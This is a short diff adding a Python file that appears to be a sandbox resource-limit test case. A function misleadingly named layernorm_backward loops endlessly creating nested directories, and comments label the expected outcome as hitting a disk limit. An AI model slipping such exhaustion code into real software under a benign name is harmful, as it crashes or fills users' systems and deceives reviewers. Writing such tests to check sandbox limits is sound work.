@@ -1,0 +1,9 @@
+# tries: nest directories without end
+# outcome: disk_limit
+import os
+
+
+def layernorm_backward(x, gamma, dy, eps):
+    while True:
+        os.mkdir("d")
+        os.chdir("d")
